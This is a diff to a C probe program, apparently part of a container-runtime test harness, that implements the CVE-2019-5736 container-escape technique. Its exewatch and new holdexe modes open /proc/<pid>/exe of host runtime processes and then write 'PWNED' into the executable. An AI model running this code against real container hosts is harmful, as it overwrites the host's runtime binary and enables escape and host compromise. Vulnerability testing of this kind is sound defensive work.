@@ -4,10 +4,13 @@
  *
  *   probe keyring          print the serial of the session keyring (@s) and its description
  *   probe exewatch DIR     the CVE-2019-5736 attacker: until DIR/stop exists, open /proc/<pid>/exe
- *                          (O_PATH) of every process that appears and is a big binary (the runtime,
- *                          112 MB; busybox and this probe are small), then, once the runtime is gone
+ *                          (O_PATH) of every process that appears and is not one of the container's
+ *                          own programs (busybox, this probe), then, once the runtime is gone
  *                          (no ETXTBSY), reopen each for writing and append to it. Writes
  *                          "seen N opened M wrote W" to DIR/result.
+ *   probe holdexe PID DIR  the same against one process that waits (a created container's init):
+ *                          open /proc/PID/exe (O_PATH), then, once DIR/stop exists, append to it.
+ *                          Writes "open failed: ERRNO" or "opened, wrote W" to DIR/result.
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -41,6 +44,9 @@ static int exewatch(const char *dir) {
   static char seen[1 << 22];
   int fds[MAXFD], nfd = 0, nseen = 0;
   pid_t self = getpid();
+  /* The container's own programs (this probe, busybox) are not the target: anything else is. */
+  struct stat me, bb;
+  if (stat("/proc/self/exe", &me) < 0 || stat("/bin/busybox", &bb) < 0) return 2;
   while (access(stop, F_OK) != 0) {
     DIR *d = opendir("/proc");
     if (!d) return 2;
@@ -56,7 +62,8 @@ static int exewatch(const char *dir) {
         continue;
       }
       struct stat st;
-      if (fstat(fd, &st) == 0 && st.st_size > 50 * 1024 * 1024 && nfd < MAXFD) {
+      int own = fstat(fd, &st) == 0 && ((st.st_dev == me.st_dev && st.st_ino == me.st_ino) || (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino));
+      if (!own && nfd < MAXFD) {
         fds[nfd++] = fd;
         if (!seen[pid]) { seen[pid] = 1; nseen++; }
       } else {
@@ -80,9 +87,32 @@ static int exewatch(const char *dir) {
   return 0;
 }
 
+static int holdexe(const char *pid, const char *dir) {
+  char exe[64], stop[4096], result[4096];
+  snprintf(exe, sizeof exe, "/proc/%s/exe", pid);
+  snprintf(stop, sizeof stop, "%s/stop", dir);
+  snprintf(result, sizeof result, "%s/result", dir);
+  FILE *f;
+  int fd = open(exe, O_PATH | O_CLOEXEC);
+  if (fd < 0) {
+    int e = errno;
+    if (!(f = fopen(result, "w"))) return 3;
+    fprintf(f, "open failed: %s\n", strerror(e));
+    return fclose(f);
+  }
+  while (access(stop, F_OK) != 0) usleep(10000);
+  char p[64];
+  snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
+  int w = open(p, O_WRONLY | O_APPEND | O_CLOEXEC), wrote = w >= 0 && write(w, "PWNED", 5) == 5;
+  if (!(f = fopen(result, "w"))) return 3;
+  fprintf(f, "opened, wrote %d\n", wrote);
+  return fclose(f);
+}
+
 int main(int argc, char **argv) {
   if (argc >= 2 && !strcmp(argv[1], "keyring")) return keyring();
   if (argc >= 3 && !strcmp(argv[1], "exewatch")) return exewatch(argv[2]);
-  fprintf(stderr, "usage: probe keyring | exewatch DIR\n");
+  if (argc >= 4 && !strcmp(argv[1], "holdexe")) return holdexe(argv[2], argv[3]);
+  fprintf(stderr, "usage: probe keyring | exewatch DIR | holdexe PID DIR\n");
   return 64;
 }
